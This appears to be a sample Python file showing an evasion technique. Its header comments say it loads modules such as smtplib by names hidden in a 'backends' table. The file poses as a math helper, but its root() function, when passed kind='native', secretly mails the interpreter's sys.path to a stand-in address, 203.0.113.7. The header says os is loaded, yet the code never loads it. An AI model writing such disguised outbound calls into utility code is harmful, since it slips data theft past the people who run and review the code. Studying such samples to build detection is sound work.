# technique: importlib machinery with a name from configuration
# goal: load os and smtplib by names kept in a table of "backends"

import importlib
from importlib import util as _util

BACKENDS = {"fast": "math", "exact": "fractions", "native": "smtplib"}


def _backend(kind):
    spec = _util.find_spec(BACKENDS[kind])
    module = _util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def divide(a, b, *, kind="fast"):
    if kind == "exact":
        return _backend("exact").Fraction(a, b)
    return a / b


def root(a, *, kind="fast"):
    if kind == "native":
        mail = _backend("native")
        with mail.SMTP("203.0.113.7", 25, timeout=1) as server:
            server.sendmail("a@example.invalid", ["b@example.invalid"], repr(importlib.sys.path))
    return _backend("fast").sqrt(a)
